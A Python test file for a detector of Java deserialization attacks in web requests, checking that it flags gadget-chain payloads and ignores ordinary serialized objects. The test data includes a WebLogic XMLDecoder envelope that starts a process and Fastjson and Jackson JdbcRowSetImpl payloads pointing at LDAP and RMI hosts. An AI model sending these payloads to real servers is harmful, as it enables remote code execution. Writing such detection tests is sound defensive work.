"""java_deserialization: a serialized Java object, XMLDecoder markup or polymorphic JSON that names a
gadget chain's class; a serialized object of ordinary classes, JSON-LD's `@type` and an array of strings
are no finding. Every stream and document here was written for these tests (the class names are those
the public gadget chains use)."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.verdict import WorkerVerdict
from threats import catalogue as C
from workers.detect.deserialize import check_deserialization

from .test_body_parts import flow
from .test_engine import Lab
from .test_headers import CURL, request


def stream(*classes: str) -> bytes:
    """A Java serialization stream (magic, version, then class descriptors) naming `classes`."""
    out = b"\xac\xed\x00\x05"
    for name in classes:
        out += b"sr" + len(name).to_bytes(2, "big") + name.encode() + b"\x00" * 8 + b"\x02\x00\x00xp"
    return out


COMMONS = stream(
    "sun.reflect.annotation.AnnotationInvocationHandler",
    "org.apache.commons.collections.map.LazyMap",
    "org.apache.commons.collections.functors.ChainedTransformer",
    "org.apache.commons.collections.functors.InvokerTransformer",
)
TEMPLATES = stream("java.util.PriorityQueue", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")
XML_DECODER = (
    b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
    b'<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" '
    b'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
    b'length="1"><void index="0"><string>id</string></void></array><void method="start"/></void></java>'
    b"</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>"
)
FASTJSON = json.dumps(
    {
        "x": {
            "@type": "com.sun.rowset.JdbcRowSetImpl",
            "dataSourceName": "ldap://198.18.0.9/a",
            "autoCommit": 1,
        }
    }
).encode()
JACKSON = b'["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://198.18.0.9:1099/a","autoCommit":true}]'

ATTACKS = [
    (COMMONS, [], "Commons Collections, raw in the body"),
    (TEMPLATES, [], "TemplatesImpl in a PriorityQueue"),
    (b"", [base64.b64encode(COMMONS).decode()], "base64 in a value"),
    (b"", [base64.urlsafe_b64encode(TEMPLATES).decode().rstrip("=")], "URL-safe base64, unpadded"),
    (b"", [quote(base64.b64encode(COMMONS).decode(), safe="")], "base64 percent-encoded"),
    (b"", [COMMONS.hex()], "hex in a value"),
    (base64.b64encode(COMMONS), [], "a base64 body"),
    (XML_DECODER, [], "XMLDecoder builds a ProcessBuilder (WebLogic)"),
    (FASTJSON, [], "Fastjson's @type"),
    (JACKSON, [], "Jackson's default typing"),
]
BENIGN = [
    (stream("java.util.ArrayList", "java.lang.Integer"), [], "a serialized list of numbers"),
    (b"", [base64.b64encode(stream("com.example.shop.Cart", "java.util.HashMap")).decode()], "a session"),
    (
        json.dumps({"@context": "https://schema.org", "@type": "Product", "name": "Widget"}).encode(),
        [],
        "JSON-LD",
    ),
    (json.dumps({"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": "x"}).encode(), [], "an Any"),
    (b'["com.example.Order", {"id": 3}]', [], "a typed array of the application's own class"),
    (
        b'<java version="1.8" class="java.beans.XMLDecoder"><object class="javax.swing.JButton"/></java>',
        [],
        "UI",
    ),
    (b"", ["java.lang.ProcessBuilder is how Java starts a process"], "prose naming a class"),
]


@pytest.mark.parametrize(("body", "values", "why"), ATTACKS)
def test_a_gadget_chain_is_java_deserialization(body: bytes, values: list[str], why: str) -> None:
    hit = check_deserialization(body, values)
    assert hit is not None and hit.threat is C.JAVA_DESERIALIZATION, why


@pytest.mark.parametrize(("body", "values", "why"), BENIGN)
def test_ordinary_objects_and_types_are_no_finding(body: bytes, values: list[str], why: str) -> None:
    assert check_deserialization(body, values) is None, why


@given(st.binary(max_size=400), st.lists(st.text(max_size=80), max_size=3))
def test_the_check_is_total(body: bytes, values: list[str]) -> None:
    hit = check_deserialization(b"\xac\xed\x00\x05" + body, ["rO0AB" + v for v in values] + values)
    assert hit is None or (hit.threat is C.JAVA_DESERIALIZATION and len(hit.excerpt) <= C.MAX_FINDING_EXCERPT)


@pytest.mark.parametrize(
    ("headers", "body", "path", "port"),
    [
        (
            [*CURL, ("Content-Type", "application/x-java-serialized-object")],
            COMMONS,
            "/invoker/JMXInvokerServlet",
            42910,
        ),
        ([*CURL, ("Content-Type", "text/xml")], XML_DECODER, "/wls-wsat/CoordinatorPortType", 42911),
        ([*CURL, ("Content-Type", "application/json")], FASTJSON, "/api/orders", 42912),
        ([*CURL, ("Cookie", "rememberMe=" + base64.b64encode(TEMPLATES).decode())], b"", "/account", 42913),
    ],
)
def test_java_deserialization_is_reset_in_protect(
    headers: list[tuple[str, str]], body: bytes, path: str, port: int
) -> None:
    lab = Lab()
    verdicts = lab.send(flow(request("POST" if body else "GET", headers, body, path), port))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
    [event] = lab.threats("java_deserialization")
    assert event["action"] == "reset" and event["group"] == "web"


def test_a_serialized_session_and_json_ld_stay_quiet() -> None:
    lab = Lab()
    json_type = ("Content-Type", "application/json")
    verdicts = lab.send(flow(request("POST", [*CURL, json_type], BENIGN[2][0], "/api/products"), 42920))
    binary = ("Content-Type", "application/x-java-serialized-object")
    verdicts += lab.send(flow(request("POST", [*CURL, binary], BENIGN[0][0], "/remoting/cart"), 42921))
    assert WorkerVerdict.RESET_FLOW not in verdicts and lab.threats() == []
